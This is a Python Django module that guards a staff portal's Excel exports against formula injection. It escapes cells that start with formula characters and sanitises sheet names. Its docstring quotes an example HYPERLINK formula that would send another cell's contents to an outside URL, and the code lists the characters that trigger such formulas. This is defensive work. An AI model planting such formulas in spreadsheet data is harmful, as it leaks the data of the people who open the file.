"""Cells written into spreadsheets for staff: text that a spreadsheet would
run as a formula is written as text.

A name such as ``=HYPERLINK("http://…?leak="&C2,"点击查看")`` typed by a
manager becomes a live formula in the staff member's Excel, which can send
other cells' contents away. Every export (the admin's, through ``SafeXLSX``;
the portal's own workbooks, through ``escape_formula``) writes such text with
a leading apostrophe, which Excel shows as text.
"""

from django.utils.functional import Promise
from import_export.formats.base_formats import XLSX

#: A text cell starting with one of these would run as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value):
    # Choice labels are lazy translations, which openpyxl cannot write.
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


#: Characters Excel refuses in a sheet's name (openpyxl raises on them).
SHEET_TITLE_REFUSED = str.maketrans({c: " " for c in "[]:*?/\\"})


def sheet_title(text) -> str:
    """A sheet name Excel accepts: a report's English title ("Kexie Bang:
    needs …") has a colon, which made the export a 500. Excel allows 31
    characters: an English title is cut between words ("… reached by", not
    "… reached by mo")."""
    title = " ".join(str(text).translate(SHEET_TITLE_REFUSED).split())
    if len(title) > 31:
        head = title[:32]
        title = head.rsplit(" ", 1)[0] if " " in head else title[:31]
    title = title.strip("' ")
    return title or "Sheet"


class SafeXLSX(XLSX):
    """django-import-export's Excel format with every text cell escaped on
    export (the library's own switch only strips a leading "=")."""

    def export_data(self, dataset, **kwargs):
        for index in range(dataset.height):
            dataset[index] = tuple(escape_formula(cell) for cell in dataset[index])
        return super().export_data(dataset, **kwargs)
